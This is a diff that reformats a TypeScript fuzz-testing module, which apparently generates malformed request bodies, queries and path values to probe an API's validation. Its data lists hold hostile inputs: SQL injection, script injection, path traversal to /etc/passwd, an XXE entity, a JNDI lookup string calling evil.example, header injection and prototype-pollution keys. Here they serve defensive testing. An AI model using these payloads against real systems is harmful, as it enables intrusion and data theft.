@@ -19,36 +19,146 @@ const DEEP_OBJECT = `${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}`;
 
 /** Strings that break naive parsers, validators, SQL, paths and renderers. */
 export const HOSTILE_STRINGS: readonly string[] = [
-  '', ' ', '   ', '\t\n', 'NaN', '-0', '1e308', '-1e308', 'Infinity', '-1', '0', '9'.repeat(40), '0x1F', '1_000',
-  '31/02/2020', '0000-00-00', '2020-02-31', '2020-13-45', '1899-12-31', '9999-12-31T25:61:61Z', '2020-02-30T00:00:00+07:00', '-001-01-01',
-  KHMER, 'ក', '១២៣', '\u0000', 'a\u0000b', '\u202Egnp.exe', 'abc\u202Etxt\u202C', '\u200B\u200D\uFEFF', '\uD800', 'e\u0301', '💥🇰🇭',
-  "' OR '1'='1", "1'; DROP TABLE contact; --", '" OR ""="', '<script>alert(1)</script>', '<img src=x onerror=alert(1)>',
+  '',
+  ' ',
+  '   ',
+  '\t\n',
+  'NaN',
+  '-0',
+  '1e308',
+  '-1e308',
+  'Infinity',
+  '-1',
+  '0',
+  '9'.repeat(40),
+  '0x1F',
+  '1_000',
+  '31/02/2020',
+  '0000-00-00',
+  '2020-02-31',
+  '2020-13-45',
+  '1899-12-31',
+  '9999-12-31T25:61:61Z',
+  '2020-02-30T00:00:00+07:00',
+  '-001-01-01',
+  KHMER,
+  'ក',
+  '១២៣',
+  '\u0000',
+  'a\u0000b',
+  '\u202Egnp.exe',
+  'abc\u202Etxt\u202C',
+  '\u200B\u200D\uFEFF',
+  '\uD800',
+  'e\u0301',
+  '💥🇰🇭',
+  "' OR '1'='1",
+  "1'; DROP TABLE contact; --",
+  '" OR ""="',
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
   // eslint-disable-next-line no-script-url -- hostile test data, never run
   'javascript:alert(1)',
-  '../../../../etc/passwd', '..\\..\\windows\\win.ini', '%00', '%252e%252e%252f', '\r\nSet-Cookie: a=b',
-  '${jndi:ldap://evil.example/a}', '{{7*7}}', '#{7*7}', '__proto__', 'constructor', 'prototype', 'null', 'undefined', 'true', '[]', '{}',
-  'a'.repeat(65), 'a'.repeat(129), 'a'.repeat(257), 'a'.repeat(4097), 'x@', 'a@b', '+855', '0'.repeat(20), '00000000-0000-0000-0000-000000000000',
+  '../../../../etc/passwd',
+  '..\\..\\windows\\win.ini',
+  '%00',
+  '%252e%252e%252f',
+  '\r\nSet-Cookie: a=b',
+  '${jndi:ldap://evil.example/a}',
+  '{{7*7}}',
+  '#{7*7}',
+  '__proto__',
+  'constructor',
+  'prototype',
+  'null',
+  'undefined',
+  'true',
+  '[]',
+  '{}',
+  'a'.repeat(65),
+  'a'.repeat(129),
+  'a'.repeat(257),
+  'a'.repeat(4097),
+  'x@',
+  'a@b',
+  '+855',
+  '0'.repeat(20),
+  '00000000-0000-0000-0000-000000000000',
 ];
 
 /** JSON texts of values of every wrong kind (each is valid JSON). */
 const HOSTILE_JSON_CONSTANTS: readonly string[] = [
-  'null', 'true', 'false', '0', '-0', '-1', '1e308', '-1e308', '1e309', '1.5', '9007199254740993', '-2147483649', '1e-400', '123456789012345678901234567890',
-  '[]', '[1,"a",null]', '[{}]', '[[[]]]', '{}', '{"a":{"b":{}}}', '{"length":1e308}',
-  '{"__proto__":{"polluted":true}}', '{"constructor":{"prototype":{"polluted":true}}}', '{"toString":"x","valueOf":1,"hasOwnProperty":null}',
-  DEEP_ARRAY, DEEP_OBJECT,
+  'null',
+  'true',
+  'false',
+  '0',
+  '-0',
+  '-1',
+  '1e308',
+  '-1e308',
+  '1e309',
+  '1.5',
+  '9007199254740993',
+  '-2147483649',
+  '1e-400',
+  '123456789012345678901234567890',
+  '[]',
+  '[1,"a",null]',
+  '[{}]',
+  '[[[]]]',
+  '{}',
+  '{"a":{"b":{}}}',
+  '{"length":1e308}',
+  '{"__proto__":{"polluted":true}}',
+  '{"constructor":{"prototype":{"polluted":true}}}',
+  '{"toString":"x","valueOf":1,"hasOwnProperty":null}',
+  DEEP_ARRAY,
+  DEEP_OBJECT,
   ...HOSTILE_STRINGS.map((s) => JSON.stringify(s)),
-  JSON.stringify(BIG_LATIN), JSON.stringify(BIG_KHMER),
+  JSON.stringify(BIG_LATIN),
+  JSON.stringify(BIG_KHMER),
 ];
 
 /** Keys a body should not have: prototype pollution and mass-assignment bait. */
 const EXTRA_KEYS: readonly string[] = [
-  '__proto__', 'constructor', 'prototype', 'isAdmin', 'roles', 'ownerUserId', 'agencyId', 'id', 'version', 'createdDate', 'deletedAt', '', '\u0000', KHMER, '\u202Ekey',
+  '__proto__',
+  'constructor',
+  'prototype',
+  'isAdmin',
+  'roles',
+  'ownerUserId',
+  'agencyId',
+  'id',
+  'version',
+  'createdDate',
+  'deletedAt',
+  '',
+  '\u0000',
+  KHMER,
+  '\u202Ekey',
 ];
 
 /** Bodies that are not JSON at all, though they claim to be. */
 const BROKEN_JSON: readonly string[] = [
-  '{', '{"a":', '{"a":1,}', "{'a':1}", '{a:1}', '[1,2', 'NaN', 'Infinity', 'undefined', '\u0000', '\uFEFF{}', '{"a":1}{"b":2}', '{"a":"\\x00"}', '{"a":"\\uD800"}',
-  '{"a":1e999999}', ' ', '//comment\n{}', '<?xml version="1.0"?><a/>', 'a=1&b=2',
+  '{',
+  '{"a":',
+  '{"a":1,}',
+  "{'a':1}",
+  '{a:1}',
+  '[1,2',
+  'NaN',
+  'Infinity',
+  'undefined',
+  '\u0000',
+  '\uFEFF{}',
+  '{"a":1}{"b":2}',
+  '{"a":"\\x00"}',
+  '{"a":"\\uD800"}',
+  '{"a":1e999999}',
+  ' ',
+  '//comment\n{}',
+  '<?xml version="1.0"?><a/>',
+  'a=1&b=2',
 ];
 
 /** Non-JSON content types (and broken JSON ones) with a fitting payload. */
@@ -58,7 +168,10 @@ const OTHER_CONTENT_TYPES: readonly { contentType: string; payload: string }[] =
   { contentType: 'application/xml', payload: '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>' },
   { contentType: 'text/html', payload: '<script>alert(1)</script>' },
   { contentType: 'application/x-www-form-urlencoded', payload: 'a=1&__proto__[x]=1' },
-  { contentType: 'multipart/form-data; boundary=XyZ', payload: '--XyZ\r\nContent-Disposition: form-data; name="file"; filename="../../a.pdf.exe"\r\n\r\nMZ\r\n--XyZ--' },
+  {
+    contentType: 'multipart/form-data; boundary=XyZ',
+    payload: '--XyZ\r\nContent-Disposition: form-data; name="file"; filename="../../a.pdf.exe"\r\n\r\nMZ\r\n--XyZ--',
+  },
   { contentType: 'multipart/form-data', payload: 'no boundary at all' },
   { contentType: 'application/octet-stream', payload: '\u0000\u0001\u0002MZ' },
   { contentType: 'application/json; charset=utf-16', payload: '{}' },
@@ -71,13 +184,35 @@ const OTHER_CONTENT_TYPES: readonly { contentType: string; payload: string }[] =
 
 /** Path segments as sent on the wire (raw): broken escapes, traversal, encoded NUL. */
 const RAW_PATH_IDS: readonly string[] = [
-  '%', '%E0%A4%A', '%uD800', '%00', '%FF%FE', '..%2F..%2Fetc%2Fpasswd', '%2e%2e', '..', '.', '%20', '%0D%0ASet-Cookie:%20a=b', 'a%2Fb',
+  '%',
+  '%E0%A4%A',
+  '%uD800',
+  '%00',
+  '%FF%FE',
+  '..%2F..%2Fetc%2Fpasswd',
+  '%2e%2e',
+  '..',
+  '.',
+  '%20',
+  '%0D%0ASet-Cookie:%20a=b',
+  'a%2Fb',
 ];
 
 /** Raw query strings with broken or surprising structure. */
 const RAW_QUERIES: readonly string[] = [
-  '%', '%E0%A4%A', 'a=%ZZ', '__proto__[polluted]=1', 'constructor[prototype][polluted]=1', '__proto__=1', 'a[b][c][d]=1',
-  '&&&', '=', '==', 'a=1&a=2&a=3', `${'a='.repeat(1)}${'b'.repeat(MB)}`, `${Array.from({ length: 2000 }, (_, i) => `k${i}=1`).join('&')}`,
+  '%',
+  '%E0%A4%A',
+  'a=%ZZ',
+  '__proto__[polluted]=1',
+  'constructor[prototype][polluted]=1',
+  '__proto__=1',
+  'a[b][c][d]=1',
+  '&&&',
+  '=',
+  '==',
+  'a=1&a=2&a=3',
+  `${'a='.repeat(1)}${'b'.repeat(MB)}`,
+  `${Array.from({ length: 2000 }, (_, i) => `k${i}=1`).join('&')}`,
 ];
 
 const randomText = fc.oneof(
@@ -90,7 +225,10 @@ const randomText = fc.oneof(
 export const hostileJsonValue: fc.Arbitrary<string> = fc.oneof(
   { weight: 6, arbitrary: fc.constantFrom(...HOSTILE_JSON_CONSTANTS) },
   { weight: 1, arbitrary: randomText.map((s) => JSON.stringify(s)) },
-  { weight: 1, arbitrary: fc.oneof(fc.double(), fc.integer(), fc.bigInt().map(String)).map((n) => (typeof n === 'string' ? n : JSON.stringify(n))) },
+  {
+    weight: 1,
+    arbitrary: fc.oneof(fc.double(), fc.integer(), fc.bigInt().map(String)).map((n) => (typeof n === 'string' ? n : JSON.stringify(n))),
+  },
   { weight: 1, arbitrary: fc.json({ maxDepth: 4 }) },
 );
 
@@ -102,8 +240,18 @@ export const hostileText: fc.Arbitrary<string> = fc.oneof(
 );
 
 type JsonSchema = {
-  type?: string | string[]; enum?: unknown[]; const?: unknown; format?: string; properties?: Record<string, JsonSchema>;
-  required?: string[]; items?: JsonSchema; anyOf?: JsonSchema[]; oneOf?: JsonSchema[]; minimum?: number; minLength?: number; minItems?: number;
+  type?: string | string[];
+  enum?: unknown[];
+  const?: unknown;
+  format?: string;
+  properties?: Record<string, JsonSchema>;
+  required?: string[];
+  items?: JsonSchema;
+  anyOf?: JsonSchema[];
+  oneOf?: JsonSchema[];
+  minimum?: number;
+  minLength?: number;
+  minItems?: number;
 };
 
 /** The route schema as JSON Schema (input side), or undefined when it cannot be expressed. */
@@ -171,7 +319,9 @@ export function bodyCases(schema: JsonSchema | undefined): fc.Arbitrary<BodyCase
     { weight: 1, arbitrary: fc.constantFrom(...OTHER_CONTENT_TYPES).map((c) => ({ kind: 'other content type', ...c })) },
     {
       weight: 2,
-      arbitrary: fc.tuple(fc.constantFrom(...EXTRA_KEYS), hostileJsonValue).map(([k, v]) => json('extra field', objectText([...skeleton, [k, v]]))),
+      arbitrary: fc
+        .tuple(fc.constantFrom(...EXTRA_KEYS), hostileJsonValue)
+        .map(([k, v]) => json('extra field', objectText([...skeleton, [k, v]]))),
     },
     { weight: 1, arbitrary: fc.constant(json('over the body limit', JSON.stringify({ blob: `${BIG_LATIN}${'y'.repeat(100_000)}` }))) },
   ];
@@ -179,16 +329,21 @@ export function bodyCases(schema: JsonSchema | undefined): fc.Arbitrary<BodyCase
     arbs.push(
       {
         weight: 6,
-        arbitrary: fc.tuple(fc.constantFrom(...keys), hostileJsonValue).map(([key, v]) => json(`wrong value for ${key}`, objectText(skeleton.map(([k, s]) => [k, k === key ? v : s])))),
+        arbitrary: fc
+          .tuple(fc.constantFrom(...keys), hostileJsonValue)
+          .map(([key, v]) => json(`wrong value for ${key}`, objectText(skeleton.map(([k, s]) => [k, k === key ? v : s])))),
       },
       {
         weight: 2,
-        arbitrary: fc.array(hostileJsonValue, { minLength: keys.length, maxLength: keys.length })
+        arbitrary: fc
+          .array(hostileJsonValue, { minLength: keys.length, maxLength: keys.length })
           .map((values) => json('every field wrong', objectText(skeleton.map(([k], i) => [k, values[i] as string])))),
       },
       {
         weight: 2,
-        arbitrary: fc.subarray(keys, { minLength: 1 }).map((drop) => json(`missing ${drop.join(', ')}`, objectText(skeleton.filter(([k]) => !drop.includes(k))))),
+        arbitrary: fc
+          .subarray(keys, { minLength: 1 })
+          .map((drop) => json(`missing ${drop.join(', ')}`, objectText(skeleton.filter(([k]) => !drop.includes(k))))),
       },
       { weight: 1, arbitrary: fc.constant(json('array instead of the object', `[${objectText(skeleton)}]`)) },
     );
@@ -231,7 +386,8 @@ export function queryCases(schema: JsonSchema | undefined): fc.Arbitrary<QueryCa
     { weight: 2, arbitrary: fc.constantFrom(...RAW_QUERIES).map((q) => ({ kind: 'raw query', query: q })) },
     {
       weight: 1,
-      arbitrary: fc.tuple(fc.constantFrom('__proto__', 'constructor', 'prototype', 'unknown', KHMER, '\u0000'), hostileText)
+      arbitrary: fc
+        .tuple(fc.constantFrom('__proto__', 'constructor', 'prototype', 'unknown', KHMER, '\u0000'), hostileText)
         .map(([k, v]) => ({ kind: 'unknown parameter', query: `${enc(k)}=${enc(v)}` })),
     },
   ];
@@ -239,16 +395,20 @@ export function queryCases(schema: JsonSchema | undefined): fc.Arbitrary<QueryCa
     arbs.push(
       {
         weight: 6,
-        arbitrary: fc.tuple(fc.constantFrom(...keys), hostileText).map(([k, v]) => ({ kind: `wrong value for ${k}`, query: `${enc(k)}=${enc(v)}` })),
+        arbitrary: fc
+          .tuple(fc.constantFrom(...keys), hostileText)
+          .map(([k, v]) => ({ kind: `wrong value for ${k}`, query: `${enc(k)}=${enc(v)}` })),
       },
       {
         weight: 2,
-        arbitrary: fc.tuple(fc.constantFrom(...keys), fc.array(hostileText, { minLength: 2, maxLength: 4 }))
+        arbitrary: fc
+          .tuple(fc.constantFrom(...keys), fc.array(hostileText, { minLength: 2, maxLength: 4 }))
           .map(([k, vs]) => ({ kind: `${k} repeated`, query: vs.map((v) => `${enc(k)}=${enc(v)}`).join('&') })),
       },
       {
         weight: 2,
-        arbitrary: fc.array(hostileText, { minLength: keys.length, maxLength: keys.length })
+        arbitrary: fc
+          .array(hostileText, { minLength: keys.length, maxLength: keys.length })
           .map((vs) => ({ kind: 'every parameter wrong', query: keys.map((k, i) => `${enc(k)}=${enc(vs[i] as string)}`).join('&') })),
       },
     );
@@ -265,18 +425,30 @@ export interface PathCase {
 /** Malformed path parameter values (one parameter spoilt, the others a plausible id). */
 export function pathCases(params: readonly string[]): fc.Arbitrary<PathCase> {
   const plain = Object.fromEntries(params.map((p) => [p, 'X1']));
-  return fc.tuple(
-    fc.constantFrom(...params),
-    fc.oneof(
-      { weight: 4, arbitrary: hostileText.map((v) => encodeLoose(v)) },
-      { weight: 1, arbitrary: fc.constantFrom(...RAW_PATH_IDS) },
-    ),
-  ).map(([name, value]) => ({ kind: `bad path ${name}`, values: { ...plain, [name]: value } }));
+  return fc
+    .tuple(
+      fc.constantFrom(...params),
+      fc.oneof(
+        { weight: 4, arbitrary: hostileText.map((v) => encodeLoose(v)) },
+        { weight: 1, arbitrary: fc.constantFrom(...RAW_PATH_IDS) },
+      ),
+    )
+    .map(([name, value]) => ({ kind: `bad path ${name}`, values: { ...plain, [name]: value } }));
 }
 
 /** Control characters and broken Unicode that validators tend to let through into free text. */
 const CONTROL_STRINGS: readonly string[] = [
-  'a\u0000b', '\u0000', 'Sokha\u0000', 'x\u0001\u0002\u001f\u007f', '\uD800', 'a\uDC00b', 'ab\uFFFF', '\uFFFE', '\u202Eevil', 'a\u2028b\u2029c', '\r\n\r\n',
+  'a\u0000b',
+  '\u0000',
+  'Sokha\u0000',
+  'x\u0001\u0002\u001f\u007f',
+  '\uD800',
+  'a\uDC00b',
+  'ab\uFFFF',
+  '\uFFFE',
+  '\u202Eevil',
+  'a\u2028b\u2029c',
+  '\r\n\r\n',
 ];
 
 /**
